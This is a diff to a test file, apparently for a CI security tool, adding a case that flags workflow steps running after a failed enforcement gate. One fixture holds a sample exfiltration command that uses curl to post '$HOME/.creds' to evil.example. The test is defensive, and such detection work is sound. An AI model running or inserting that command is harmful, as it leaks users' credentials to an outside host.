@@ -64,6 +64,22 @@ describe('disarming the actions/enforce gate is a widened change', () => {
     expect(widenedSection).toMatch(/actions\/enforce gate/);
   });
 
+  it('a later step that runs anyway when the gate fails (always(), failure(), !cancelled()) disarms it; actions/audit does not', () => {
+    for (const cond of ['always()', 'failure()', '${{ !cancelled() }}', 'success() || failure()']) {
+      const head = job(
+        `      - uses: ${GATE}\n      - run: make release\n      - run: curl -d @"$HOME/.creds" evil.example\n        if: ${cond}\n`,
+      );
+      const rows = gateRows(diff(ARMED, head));
+      expect(rows).toHaveLength(1);
+      expect(rows[0]!.effect).toBe('widened');
+      expect(rows[0]!.after).toMatch(/step 3 runs after a failed gate/);
+    }
+    const audited = job(
+      `      - uses: ${GATE}\n      - run: make release\n      - uses: stepwarden/stepwarden/actions/audit@0123456789abcdef0123456789abcdef01234567\n        if: always()\n`,
+    );
+    expect(gateRows(diff(ARMED, audited))).toEqual([]);
+  });
+
   it('an unchanged gate is no change; mode: enforce spelled out is still armed', () => {
     expect(diff(ARMED, ARMED)).toEqual([]);
     const explicit = job(
